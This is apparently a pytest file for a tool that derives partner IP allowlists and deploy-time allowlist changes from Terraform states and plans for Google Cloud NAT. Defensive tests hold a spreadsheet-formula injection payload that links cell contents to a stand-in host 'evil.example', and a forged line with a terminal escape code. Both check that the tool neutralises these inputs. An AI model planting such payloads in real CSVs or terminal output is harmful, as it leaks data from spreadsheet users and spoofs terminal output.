"""The partner's list from a state, and a plan's allowlist change, on Terraform's JSON shapes (the rehearsal tests
check both on real states and plans: tests/integration/test_rehearsal.py)."""

from __future__ import annotations

import csv
import io
import json

from constructs_lib.report.allowlist import allowlist_csv, allowlist_entries, write_allowlist
from constructs_lib.report.plan_allowlist import allowlist_change
from tests.support.synth import ADDRESS, NAT, NAT_ADDRESS, ROUTER

LINK = "https://www.googleapis.com/compute/v1/projects/{project}/regions/asia-northeast3/addresses/{name}"


def link(name: str, project: str = "p-1") -> str:
    return LINK.format(project=project, name=name)


def address(name: str, ip: str, *, mode: str = "managed", project: str = "p-1") -> dict:
    prefix = "data." if mode == "data" else ""
    return {"address": f"{prefix}{ADDRESS}.A-{name}", "mode": mode, "type": ADDRESS, "name": f"A-{name}",
            "values": {"name": name, "address": ip, "project": project, "self_link": link(name, project),
                       "region": "asia-northeast3"}}


def holder(rtype: str, nat_ips: list[str], drain: list[str]) -> dict:
    """NAT_ADDRESS or NAT with these addresses (``name@project`` for another project's)."""
    values = {"router": "r", "nat_ips": [link(*n.split("@")) for n in nat_ips],
              "drain_nat_ips": [link(*n.split("@")) for n in drain]}
    values.update({"router_nat": "n"} if rtype == NAT_ADDRESS else {"name": "n"})
    return {"address": f"{rtype}.H", "mode": "managed", "type": rtype, "name": "H", "values": values}


def state(*resources: dict) -> dict:
    return {"format_version": "1.0", "values": {"root_module": {"resources": list(resources)}}}


def test_every_ip_gets_its_role_stack_and_project():
    entries = allowlist_entries(state(
        address("a", "203.0.113.1"), address("b", "203.0.113.2"), address("c", "203.0.113.3"),
        address("partner", "198.51.100.7", mode="data", project="host-1"),
        holder(NAT_ADDRESS, ["b", "partner@host-1"], ["a"]),
    ), stack="prod")
    assert [(e.name, e.ip, e.role, e.stack, e.project, e.region) for e in entries] == [
        ("b", "203.0.113.2", "active", "prod", "p-1", "asia-northeast3"),
        ("partner", "198.51.100.7", "adopted", "prod", "host-1", "asia-northeast3"),
        ("a", "203.0.113.1", "draining", "prod", "p-1", "asia-northeast3"),
        ("c", "203.0.113.3", "standby", "prod", "p-1", "asia-northeast3"),
    ]


def test_the_nat_address_wins_over_the_nats_own_lagging_lists():
    # The NAT's nat_ips are Computed and read before NatAddress's PATCH: one apply behind.
    entries = allowlist_entries(state(address("a", "203.0.113.1"), address("b", "203.0.113.2"),
                                      holder(NAT, ["a"], []), holder(NAT_ADDRESS, ["b"], ["a"])), stack="s")
    assert {e.name: e.role for e in entries} == {"a": "draining", "b": "active"}


def test_a_nat_of_the_earlier_shape_is_read_too():
    entries = allowlist_entries(state(address("a", "203.0.113.1"), holder(NAT, ["a"], [])), stack="s")
    assert [(e.name, e.role) for e in entries] == [("a", "active")]


def test_json_and_csv_hold_the_same_entries(tmp_path):
    entries = allowlist_entries(state(address("a", "203.0.113.1"), holder(NAT_ADDRESS, ["a"], [])), stack="s")
    written = write_allowlist(entries, tmp_path)
    assert [p.name for p in written] == ["allowlist.json", "allowlist.csv"]
    as_json = json.loads((tmp_path / "allowlist.json").read_text())
    as_csv = list(csv.DictReader(io.StringIO(allowlist_csv(entries))))
    assert as_json == as_csv == [{"ip": "203.0.113.1", "name": "a", "role": "active", "stack": "s",
                                  "project": "p-1", "region": "asia-northeast3", "partner": ""}]


def nat_with_rules(*rules: tuple[int, str | None, list[str]], drain: tuple[str, ...] = ()) -> dict:
    """A NAT of a state with rules (number, description, addresses; ``drain`` of the first), as ``terraform
    show -json`` holds them."""
    return {"address": f"{NAT}.N", "mode": "managed", "type": NAT, "name": "N", "values": {
        "name": "n", "router": "r", "rules": [
            {"rule_number": number, "description": description or "", "match": "inIpRange(destination.ip, '1.1.1.1/32')",
             "action": [{"source_nat_active_ips": [link(n) for n in names],
                         "source_nat_drain_ips": [link(n) for n in drain] if i == 0 else []}]}
            for i, (number, description, names) in enumerate(rules)]}}


def test_a_rules_address_is_allowlisted_by_its_partner_alone():
    entries = allowlist_entries(state(
        address("a", "203.0.113.1"), address("pa", "203.0.113.5"), address("pb", "203.0.113.6"),
        holder(NAT_ADDRESS, ["a"], []), nat_with_rules((100, "partner-a", ["pa"]), (200, None, ["pb"]))), stack="s")
    assert [(e.name, e.role, e.partner) for e in entries] == [
        ("a", "active", ""), ("pa", "rule", "partner-a"), ("pb", "rule", "rule 200")]


def test_a_partner_name_a_spreadsheet_would_run_is_text_in_the_csv_and_as_is_in_the_json(tmp_path):
    # A rule's description edited in the console reaches the state at the next refresh: validation cannot stop it,
    # and allowlist.csv is opened by the partner.
    formula = '=HYPERLINK("http://evil.example/?"&A1,"partner")'
    entries = allowlist_entries(state(
        address("a", "203.0.113.1"), address("pa", "203.0.113.5"), address("pb", "203.0.113.6"),
        address("pc", "203.0.113.7"), holder(NAT_ADDRESS, ["a"], []),
        nat_with_rules((100, formula, ["pa"]), (200, "+1 partner", ["pb"]), (300, "a=b", ["pc"]))), stack="s")
    write_allowlist(entries, tmp_path)
    rows = {row["name"]: row["partner"] for row in csv.DictReader(io.StringIO((tmp_path / "allowlist.csv").read_text()))}
    assert rows == {"a": "", "pa": "'" + formula, "pb": "'+1 partner", "pc": "a=b"}
    assert {e["name"]: e["partner"] for e in json.loads((tmp_path / "allowlist.json").read_text())} == {
        "a": "", "pa": formula, "pb": "+1 partner", "pc": "a=b"}


def test_a_rules_draining_address_is_draining_for_its_partner():
    entries = allowlist_entries(state(
        address("a", "203.0.113.1"), address("pa", "203.0.113.5"), address("pa2", "203.0.113.7"),
        holder(NAT_ADDRESS, ["a"], []), nat_with_rules((100, "partner-a", ["pa2"]), drain=("pa",))), stack="s")
    assert [(e.name, e.role, e.partner) for e in entries] == [
        ("a", "active", ""), ("pa2", "rule", "partner-a"), ("pa", "draining", "partner-a")]


def test_a_rule_address_created_by_the_deploy_is_flagged_as_starting():
    new = {"address": f"{ADDRESS}.A-pa", "mode": "managed", "type": ADDRESS,
           "change": {"actions": ["create"], "before": None, "after": {"name": "pa"}}}
    nat = {"address": f"{NAT}.N", "mode": "managed", "type": NAT, "change": {
        "actions": ["update"], "before": {"rules": []}, "after": {"rules": [{"action": [{}]}]},
        "after_unknown": {"rules": [{"action": [{"source_nat_active_ips": True}]}]}}}
    doc = plan(change(values(["a"], []), values(["a"], []), ["no-op"]), nat, new, prior=PRIOR)
    doc["planned_values"]["root_module"]["resources"].append(
        {"address": f"{ADDRESS}.A-pa", "mode": "managed", "type": ADDRESS, "values": {"name": "pa"}})
    doc["configuration"] = {"root_module": {"resources": [{"address": f"{NAT}.N", "expressions": {"rules": [
        {"action": [{"source_nat_active_ips": {"references": [f"{ADDRESS}.A-pa.self_link", f"{ADDRESS}.A-pa"]}}]}]}}]}}
    text = "\n".join(allowlist_change(doc))
    assert "starts using: **the partner must allowlist them before this deploy**:\n\n- pa (IP known after apply)" in text


def change(before: dict | None, after: dict | None, actions: list[str], rtype: str = NAT_ADDRESS) -> dict:
    return {"address": f"{rtype}.H", "mode": "managed", "type": rtype, "change": {
        "actions": actions, "before": before, "after": after, "after_unknown": {}}}


def values(nat_ips: list[str], drain: list[str]) -> dict:
    return {"nat_ips": [link(n) for n in nat_ips], "drain_nat_ips": [link(n) for n in drain]}


def plan(*changes: dict, prior: tuple[dict, ...] = ()) -> dict:
    return {"resource_changes": list(changes), "prior_state": state(*prior),
            "planned_values": {"root_module": {"resources": list(prior)}}}


PRIOR = (address("a", "203.0.113.1"), address("b", "203.0.113.2"), address("c", "203.0.113.3"))


def test_a_standby_address_joining_the_pool_must_be_allowlisted_first():
    lines = allowlist_change(plan(change(values(["a"], []), values(["a", "c"], []), ["update"]), prior=PRIOR))
    assert lines == ["## Allowlist change", "",
                     "IPs this deploy starts using: **the partner must allowlist them before this deploy**:", "",
                     "- `203.0.113.3` (c)", ""]


def test_removing_a_drained_address_stops_using_and_releases_its_ip():
    released = {"address": f"{ADDRESS}.A-a", "mode": "managed", "type": ADDRESS, "change": {
        "actions": ["delete"], "before": PRIOR[0]["values"], "after": None}}
    text = "\n".join(allowlist_change(plan(change(values(["b"], ["a"]), values(["b"], []), ["update"]), released,
                                           prior=PRIOR)))
    assert "stops using: they can leave the allowlist after it:\n\n- `203.0.113.1` (a)" in text
    assert "releases (the IP is gone for good):\n\n- `203.0.113.1` (a)" in text
    assert "starts using" not in text


def test_an_ip_put_into_the_nat_outside_terraform_leaves_without_a_made_up_ip():
    lines = allowlist_change(plan(change(values(["a", "ops"], []), values(["a"], []), ["update"]), prior=PRIOR))
    assert lines[-2:] == ["- ops (put into the NAT outside Terraform: its IP is not in this stack's state)", ""]


def test_the_ip_list_beside_a_nat_that_stays_deleted_leaves_it_its_first_ip_only():
    # The NAT's own list in the plan is stale; the provider's delete keeps the first IP (facts/nat.py).
    deleted = change(values(["b", "a"], []), None, ["delete"])
    lines = allowlist_change(plan(change(values(["b", "a"], []), values(["b", "a"], []), ["no-op"], NAT), deleted,
                                  prior=PRIOR))
    assert lines == ["## Allowlist change", "", "IPs this deploy stops using: they can leave the allowlist after it:",
                     "", "- `203.0.113.1` (a)", ""]
    nat_gone = change(values(["b", "a"], []), None, ["delete"], NAT)
    assert "- `203.0.113.2` (b)" in allowlist_change(plan(nat_gone, deleted, prior=PRIOR))


WHERE = {"project": "p-1", "region": "asia-northeast3"}


def router(actions: list[str], name: str = "r") -> dict:
    values = {**WHERE, "name": name}
    return {"address": f"{ROUTER}.R-{name}", "mode": "managed", "type": ROUTER, "change": {
        "actions": actions, "before": values, "after": None if actions == ["delete"] else values, "after_unknown": {}}}


def test_a_router_deleted_while_its_nat_stays_takes_every_ip_of_the_nat_out_of_use():
    # Google Cloud deletes a router's NATs with it (facts/nat.py). The stack re-creates the NAT with its router; a
    # plan it no longer makes (an older synth, another configuration) can keep the NAT. The guard refuses that plan
    # (undrained); the allowlist change printed beside the refusal says what its apply would do, not "no change".
    nat = {**values(["b"], ["a"]), **WHERE, "router": "r", "name": "n"}
    ip_list = {**values(["b"], ["a"]), **WHERE, "router": "r", "router_nat": "n"}
    gone = ["", "IPs this deploy stops using: they can leave the allowlist after it:", "",
            "- `203.0.113.1` (a)", "- `203.0.113.2` (b)", ""]
    for replaced in (["delete", "create"], ["create", "delete"], ["delete"]):
        kept = [change(nat, nat, ["no-op"], NAT), change(ip_list, ip_list, ["update"])]
        assert allowlist_change(plan(*kept, router(replaced), prior=PRIOR))[1:] == gone, replaced
        assert allowlist_change(plan(kept[0], router(replaced), prior=PRIOR))[1:] == gone, replaced
    # Re-created with its router (replace_triggered_by), the NAT keeps its IPs; another router's delete is not its.
    recreated = [change(nat, nat, ["delete", "create"], NAT), change(ip_list, ip_list, ["delete", "create"])]
    kept = [change(nat, nat, ["no-op"], NAT), change(ip_list, ip_list, ["no-op"])]
    for changes in ([*recreated, router(["delete", "create"])], [*kept, router(["delete"], name="other")]):
        assert allowlist_change(plan(*changes, prior=PRIOR))[2] == ("No IP starts or stops being used, and no "
                                                                     "address is released."), changes


def test_a_nat_or_ip_list_forgotten_stays_in_google_cloud_with_its_ips():
    # A removed block (lifecycle destroy = false) takes a resource out of the state only: the NAT keeps its IPs in
    # Google Cloud, as the guard reads a forget. The report read it as deleted: every IP "stops being used".
    nat = {**values(["b"], ["a"]), **WHERE, "router": "r", "name": "n"}
    ip_list = {**values(["b"], ["a"]), **WHERE, "router": "r", "router_nat": "n"}
    for changes in ([change(nat, None, ["forget"], NAT)],
                    [change(nat, nat, ["no-op"], NAT), change(ip_list, None, ["forget"])]):
        assert allowlist_change(plan(*changes, prior=PRIOR))[2] == ("No IP starts or stops being used, and no "
                                                                     "address is released."), changes


def test_the_move_from_the_nats_own_lists_changes_nothing():
    lines = allowlist_change(plan(change(values(["a"], []), values(["a"], []), ["no-op"], NAT),
                                  change(None, values(["a"], []), ["create"]), prior=PRIOR))
    assert lines[2] == "No IP starts or stops being used, and no address is released."


def drifted(before: dict, after: dict, actions: list[str] = ("update",), rtype: str = ADDRESS) -> dict:
    return {"address": f"{rtype}.A-{before['name']}", "mode": "managed", "type": rtype,
            "change": {"actions": list(actions), "before": before, "after": after}}


def test_an_address_the_refresh_finds_with_a_new_ip_must_be_allowlisted_now():
    # Deleted and reserved again in GCP under its name: the plan changes nothing, the partner's IP is gone.
    doc = plan(change(values(["a", "b"], []), values(["a", "b"], []), ["no-op"]), prior=PRIOR)
    doc["resource_drift"] = [drifted(PRIOR[1]["values"], {**PRIOR[1]["values"], "address": "198.51.100.9"})]
    assert allowlist_change(doc) == [
        "## Allowlist change", "",
        "IPs that changed outside Terraform: each address was deleted and reserved again under its name, so its old "
        "IP is gone for good (no deploy brings it back): **the partner must allowlist the new IP now**, and may "
        "remove the old one:", "",
        "- `198.51.100.9` (b), was `203.0.113.2`", ""]


def test_an_adopted_address_whose_output_ip_the_plan_changes_must_be_allowlisted_now():
    # An adopted address is a data source: no drift, the stack's outputs hold its IP before the refresh.
    kept = address("k", "198.51.100.20", mode="data")
    doc = plan(change(values(["a", "k"], []), values(["a", "k"], []), ["no-op"]), prior=(*PRIOR, kept))
    doc["output_changes"] = {
        "static_ips": {"actions": ["update"], "before": {"a": "203.0.113.1", "k": "198.51.100.5"},
                       "after": {"a": "203.0.113.1", "k": "198.51.100.20"}},
        "partner_ips": {"actions": ["update"], "before": {"partner": {"b": "203.0.113.9"}},
                        "after": {"partner": {"b": "203.0.113.2"}}}}
    # b is a created address: its output changes only with drift (above), which this plan has none of.
    listed = [line for line in allowlist_change(doc) if line.startswith("- ")]
    assert listed == ["- `198.51.100.20` (k), was `198.51.100.5`"]
    doc["output_changes"]["static_ips"]["after"]["k"] = None  # unknown: nothing to compare
    assert allowlist_change(doc)[2] == "No IP starts or stops being used, and no address is released."


def test_drift_that_keeps_every_ip_changes_nothing_in_the_allowlist():
    doc = plan(change(values(["a"], []), values(["a"], []), ["no-op"]), prior=PRIOR)
    a = PRIOR[0]["values"]
    doc["resource_drift"] = [drifted(a, {**a, "labels": {"k": "v"}}), drifted(a, None, ["delete"]),
                             drifted({**a, "address": ""}, a), drifted(a, {**a, "address": "198.51.100.9"},
                                                                        rtype=NAT)]
    assert allowlist_change(doc)[2] == "No IP starts or stops being used, and no address is released."


def test_an_address_created_straight_into_the_pool_is_flagged():
    new = {"address": f"{ADDRESS}.A-d", "mode": "managed", "type": ADDRESS,
           "change": {"actions": ["create"], "before": None, "after": {"name": "d"}}}
    holder_change = change(values(["a"], []), {"drain_nat_ips": []}, ["update"])
    holder_change["change"]["after_unknown"] = {"nat_ips": True}
    doc = plan(holder_change, new, prior=PRIOR)
    doc["planned_values"]["root_module"]["resources"].append(
        {"address": f"{ADDRESS}.A-d", "mode": "managed", "type": ADDRESS, "values": {"name": "d"}})
    doc["configuration"] = {"root_module": {"resources": [{"address": f"{NAT_ADDRESS}.H", "expressions": {
        "nat_ips": {"references": [f"{ADDRESS}.A-a.self_link", f"{ADDRESS}.A-a", f"{ADDRESS}.A-d.self_link",
                                   f"{ADDRESS}.A-d"]}}}]}}
    text = "\n".join(allowlist_change(doc))
    assert "- d (IP known after apply)" in text
    assert "its IP is unknown until apply" in text


def test_make_allowlist_prints_the_partner_of_a_rules_address(tmp_path, capsys):
    from constructs_lib.report.allowlist_command import main

    shown = tmp_path / "state.json"
    shown.write_text(json.dumps(state(address("a", "203.0.113.1"), address("pa", "203.0.113.5"),
                                      holder(NAT_ADDRESS, ["a"], []), nat_with_rules((100, "partner-a", ["pa"])))))
    assert main(["write", "--stack", "s", "--out", str(tmp_path / "out"), str(shown)]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert "  203.0.113.5      rule      pa  (p-1, asia-northeast3, for partner-a)" in lines
    assert "  203.0.113.1      active    a  (p-1, asia-northeast3)" in lines


def test_make_allowlist_prints_a_partner_edited_in_the_console_on_one_line_without_escape_codes(tmp_path, capsys):
    from constructs_lib.report.allowlist_command import main

    shown = tmp_path / "state.json"
    edited = "partner\n  203.0.113.9      active    forged\x1b[2J"
    shown.write_text(json.dumps(state(address("a", "203.0.113.1"), address("pa", "203.0.113.5"),
                                      holder(NAT_ADDRESS, ["a"], []), nat_with_rules((100, edited, ["pa"])))))
    assert main(["write", "--stack", "s", "--out", str(tmp_path / "out"), str(shown)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and not [line for line in out.splitlines() if line.startswith("  203.0.113.9")]
    assert "  203.0.113.5      rule      pa  (p-1, asia-northeast3, for partner\\n  203.0.113.9      active    " \
           "forged\\x1b[2J)" in out.splitlines()


def test_on_random_plans_a_nat_dropped_with_its_router_leaves_the_ips_the_guard_says_it_leaves():
    """A plan of random shapes (tests/guard/plans.py) whose router delete takes a NAT the plan keeps: every IP that
    NAT held before and no NAT holds after, by the guard's reading (``guard.plan.nats``), is one the allowlist change
    says the deploy stops using."""
    import random

    from constructs_lib.guard.plan import nats
    from tests.guard.plans import random_plan

    seen = 0
    for seed in range(600):
        doc = random_plan(random.Random(seed))
        found = nats(doc)
        if not any(nat.dropped_with for nat in found):
            continue
        seen += 1
        after = {link for nat in found if nat.after for link in nat.after.active | nat.after.draining}
        left = {link.rsplit("/", 1)[-1] for nat in found if nat.dropped_with
                for link in nat.before.active | nat.before.draining if link not in after}
        text = "\n".join(allowlist_change(doc))
        stopping = text.split("stops using", 1)[1].split("\n\n", 2)[1] if "stops using" in text else ""
        assert all(f"({name})" in stopping or f"- {name} " in stopping for name in left), (seed, left, text)
    assert seen >= 20  # the property was tried
